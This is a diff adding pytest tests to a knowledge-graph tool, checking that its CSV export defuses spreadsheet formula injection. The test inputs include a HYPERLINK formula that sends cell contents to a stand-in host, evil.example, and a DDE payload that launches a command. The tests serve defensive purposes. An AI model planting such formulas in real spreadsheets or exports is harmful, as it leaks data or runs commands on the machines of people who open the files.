@@ -161,3 +161,28 @@ def test_every_advertised_format_exports_and_others_are_refused(store, tmp_path)
     blocker.write_text("x")
     with pytest.raises(PolicyKGError, match="cannot write"):
         export(store, "ttl", blocker / "kg.ttl")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    graph_store = GraphStore(None)
+    graph_store.add_extraction(with_hostile_entity(extraction("hengyang-2017"), formula))
+    export(graph_store, "csv", tmp_path / "kg.csv")
+    nodes_path, edges_path = csv_paths(tmp_path / "kg.csv")
+    with nodes_path.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [value for row in csv.DictReader(handle) for value in row.values()]
+    assert "'" + formula in cells and formula not in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells if c)
+    with edges_path.open(encoding="utf-8-sig", newline="") as handle:
+        sources = {row["source_label"] for row in csv.DictReader(handle)}
+    assert "'" + formula in sources
+
+
+@pytest.mark.parametrize("value, safe", [
+    ("=1+1", "'=1+1"), ("+86 10", "'+86 10"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("-3.5", "-3.5"), ("12", "12"), ("衡阳", "衡阳"), (7, 7),
+])
+def test_spreadsheet_safe(value, safe):
+    from policykg.graph.export import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == safe
